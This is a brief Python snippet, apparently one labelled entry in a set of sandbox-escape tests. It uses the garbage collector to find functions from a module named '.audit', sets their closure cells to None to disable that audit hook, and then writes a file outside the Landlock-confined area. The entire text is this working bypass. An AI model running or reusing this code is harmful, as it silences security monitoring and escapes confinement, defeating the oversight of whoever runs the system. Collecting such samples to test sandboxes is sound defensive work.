# why: looks for the hook among all objects
# hook: code.dunder
# sandbox: Landlock
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__module__.endswith('.audit'):
        for cell in thing.__closure__ or ():
            cell.cell_contents = None
open(OUTSIDE + '/new', 'w').write('x')
